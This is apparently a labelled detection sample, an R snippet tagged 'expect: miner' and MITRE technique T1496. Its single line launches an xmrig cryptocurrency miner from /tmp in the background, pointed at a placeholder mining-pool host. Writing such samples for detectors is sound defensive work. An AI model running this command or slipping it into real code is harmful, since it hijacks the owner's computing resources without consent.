# expect: miner | source: T1496
system2("/tmp/xmrig", c("-o", "stratum+tcp://pool.example.invalid:3333"), wait = FALSE)
